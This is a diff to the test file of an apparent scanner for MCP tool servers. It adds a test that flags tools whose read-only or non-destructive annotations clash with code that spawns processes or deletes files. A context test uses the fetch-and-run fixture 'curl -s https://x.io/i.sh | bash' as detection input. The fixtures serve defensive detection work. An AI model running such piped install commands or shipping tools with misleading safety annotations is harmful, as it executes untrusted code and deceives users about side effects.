@@ -8,7 +8,7 @@ from pyspark.sql import functions as F
 from tidewatch.functions import enums, hosts
 from tidewatch.functions import text as t
 from tidewatch.functions.catalogue import CATALOGUE, PY, Rule, checked
-from tidewatch.operators import dependencies, diff, files, findings, flows, injection, install, matches, metadata, network
+from tidewatch.operators import annotations, dependencies, diff, files, findings, flows, injection, install, matches, metadata, network
 from tidewatch.plans import audit
 from tidewatch.sources import readers, writers
 from tidewatch.streaming import streams
@@ -235,6 +235,38 @@ def test_tool_texts_and_signals(spark):
     assert [(r.rule_id, r.severity, r.confidence) for r in doc] == [("injection.role_spoofing.documentation", "MEDIUM", "LOW")]
 
 
+def test_contradicted_claims(spark):
+    python = """RO = ToolAnnotations(
+    readOnlyHint=True,
+)
+@mcp.tool(annotations=RO)
+def a():
+    subprocess.run(c)
+    # os.remove(x)
+
+@mcp.tool(annotations={"destructiveHint": False})
+async def b(x):
+    y = x
+
+    os.remove(x)
+@mcp.tool(annotations=ToolAnnotations(readOnlyHint=True))
+def honest():
+    return open(p)
+def other():
+    os.system(x)"""
+    script = "server.registerTool('x', { readOnlyHint: true }, () => {\nfs.rmSync(p)\n})\nserver.registerTool('y', {})\nspawn(x)"
+    frame = lines_of(spark, {("t", "v", "s.py"): python, ("u", "v", "s.js"): script})
+    found = matches.match_context(matches.match_rules(frame), frame)
+    claims = annotations.tool_claims(frame)
+    assert {(r.target, r.line, r.claim, r["first"], r["last"]) for r in claims.collect()} == {("t", 4, "read-only", 5, 7), ("t", 9, "non-destructive", 10, 13), ("t", 14, "read-only", 15, 16), ("u", 1, "read-only", 1, 3)}
+    got = {(r.target, r.rule_id): (r.severity, r.confidence, r.title.rsplit(" but its code ")[1], [(e.line, e.detail) for e in r.evidence]) for r in annotations.contradicted_annotations(claims, found).collect()}
+    assert got == {
+        ("t", "annotations.read_only_contradicted"): ("HIGH", "MEDIUM", "runs commands or code", [(4, "read-only claim"), (6, "process.spawn")]),
+        ("t", "annotations.non_destructive_contradicted"): ("HIGH", "MEDIUM", "deletes files", [(9, "non-destructive claim"), (13, "filesystem.delete")]),
+        ("u", "annotations.read_only_contradicted"): ("HIGH", "LOW", "deletes files", [(1, "read-only claim"), (2, "filesystem.delete")]),
+    }
+
+
 def test_install(spark):
     pipe = "curl -s https://x.io/i.sh | bash"
     frame = lines_of(spark, {("t", "v", "i.sh"): f"# {pipe}\necho '{pipe}'\n{pipe}", ("t", "v", "R.md"): f"# {pipe}", ("t", "v", "setup.py"): "import subprocess", ("t", "v", "Dockerfile"): "ADD https://x.io/a.deb /", ("t", "v", "a.py"): pipe})
